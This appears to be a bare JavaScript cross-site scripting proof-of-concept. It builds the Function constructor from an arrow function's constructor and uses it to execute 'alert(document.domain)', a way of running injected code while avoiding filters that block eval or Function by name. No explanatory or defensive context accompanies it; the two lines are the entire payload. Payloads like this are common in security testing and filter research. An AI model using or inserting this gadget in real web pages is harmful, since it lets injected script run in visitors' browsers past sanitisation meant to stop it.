const F = (() => {}).constructor;
F('alert(document.domain)')();
